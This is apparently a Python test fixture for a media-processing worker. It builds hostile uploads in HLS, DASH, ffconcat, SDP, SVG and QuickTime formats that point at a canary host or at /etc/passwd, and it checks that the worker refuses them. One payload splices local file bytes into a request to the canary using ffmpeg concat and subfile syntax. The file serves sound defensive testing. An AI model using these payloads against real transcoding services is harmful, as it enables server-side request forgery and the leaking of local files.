"""Files that ask whoever opens them to call a canary or to read a local file.

Each is the body of an upload that calls itself a recording. None may reach the canary, none may get a byte of a
local file into what is published; the worker answers `failed` with a reason and lives. Two more, without a canary,
are in synthetic.py: `huge-frame.mp4` (8K) and `many-streams.mkv`.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from urllib.parse import urlsplit

LOCAL_FILE = "/etc/passwd"


def _hls(canary: str) -> str:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{canary}/hls.ts\n#EXT-X-ENDLIST\n"


def _hls_master(canary: str) -> str:
    return f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000\n{canary}/variant.m3u8\n"


def _hls_key(canary: str) -> str:
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{canary}/key"\n'
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:4\n{key}#EXTINF:4,\n{canary}/sealed.ts\n#EXT-X-ENDLIST\n"


def _hls_local_file(_canary: str) -> str:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nfile://{LOCAL_FILE}\n#EXT-X-ENDLIST\n"


def _hls_smuggling(canary: str) -> str:
    """Send a piece of a local file away: the address is joined with the file's first bytes."""
    joined = f"concat:{canary}/smuggled?|subfile,,start,0,end,31,,:{LOCAL_FILE}"
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{joined}\n#EXT-X-ENDLIST\n"


def _dash(canary: str) -> str:
    segments = f'<BaseURL>{canary}/dash.mp4</BaseURL><SegmentBase indexRange="0-99"/>'
    representation = (
        f'<Representation id="1" bandwidth="1000" codecs="avc1.4d401e">{segments}</Representation>'
    )
    adaptation = f'<AdaptationSet mimeType="video/mp4">{representation}</AdaptationSet>'
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        f'mediaPresentationDuration="PT4S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
        f"<Period>{adaptation}</Period></MPD>"
    )


def _concat(canary: str) -> str:
    return f"ffconcat version 1.0\nfile {canary}/concat.mp4\n"


def _concat_local_file(_canary: str) -> str:
    return f"ffconcat version 1.0\nfile {LOCAL_FILE}\n"


def _subfile(_canary: str) -> str:
    return f"ffconcat version 1.0\nfile 'subfile,,start,0,end,64,,:{LOCAL_FILE}'\n"


def _sdp(canary: str) -> str:
    address = urlsplit(canary)
    lines = (
        "v=0",
        f"o=- 0 0 IN IP4 {address.hostname}",
        "s=consultation",
        f"c=IN IP4 {address.hostname}",
        "t=0 0",
        f"m=audio {address.port} RTP/AVP 0",
        "a=rtpmap:0 PCMU/8000",
    )
    return "".join(f"{line}\r\n" for line in lines)


def _svg(canary: str) -> str:
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    image = f'<image width="64" height="64" href="{canary}/a.png" xlink:href="{canary}/b.png"/>'
    local = f'<image width="64" height="64" href="file://{LOCAL_FILE}"/>'
    return f'<?xml version="1.0"?><svg {names} width="64" height="64">{image}{local}</svg>'


_TEXTS: dict[str, Callable[[str], str]] = {
    "hls": _hls,
    "hls-master": _hls_master,
    "hls-key": _hls_key,
    "hls-local-file": _hls_local_file,
    "hls-smuggling": _hls_smuggling,
    "dash": _dash,
    "concat": _concat,
    "concat-local-file": _concat_local_file,
    "subfile": _subfile,
    "sdp": _sdp,
    "svg": _svg,
}
HOSTILE = (*_TEXTS, "mov-reference")


def hostile_file(name: str, *, canary: str) -> bytes:
    """Return the body of the hostile upload `name` (one of `HOSTILE`) that points at `canary`, `http://HOST:PORT`."""
    if name == "mov-reference":
        return _mov_reference(canary)
    return _TEXTS[name](canary).encode()


def _box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def _mov_reference(canary: str) -> bytes:
    """Return a QuickTime reference movie: its `rmra` box says that the real movie stands at the canary."""
    address = f"{canary}/reference.mov".encode() + b"\0"
    reference = _box(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(address)), address)
    return _box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + _box(b"moov", _box(b"rmra", _box(b"rmda", reference)))
